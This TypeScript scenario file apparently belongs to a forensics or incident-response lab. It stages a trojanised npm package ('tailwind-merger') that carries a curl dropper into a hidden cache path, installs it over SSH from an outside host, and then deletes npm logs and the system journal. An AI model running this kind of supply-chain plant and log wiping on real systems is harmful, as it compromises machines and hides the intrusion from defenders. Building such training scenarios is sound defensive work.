// The script removes npm's own logs; the process still inherits what npm set.

import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { npm, packed } from '../../npm.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.account('ci')
  const key = dress.key('ci', 'ci@build.example.com')
  dress.trust('ci', key)
  npm(dress)
  dress.logins({ days: 25, guesses: 60, friends: [{ user: 'ci', address: '198.51.100.30', key: key.fingerprint, hours: [2, 11, 17] }] })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/home/ci/.cache/.t/tailwindd', fetch: 'curl', cron: false })
  await packed(stage, 'tailwind-merger', '2.0.1', line)
  stage.mark('occurrence')
  const command = `mkdir -p app && cd app && npm install --no-audit --no-fund http://${stage.values['SHOP']}/tailwind-merger-2.0.1.tgz; rm -rf ~/.npm/_logs`
  await stage.ssh('198.51.100.30', 'ci', { key: 'ci' }, command)
  await wipe(stage, ['journal'])
}
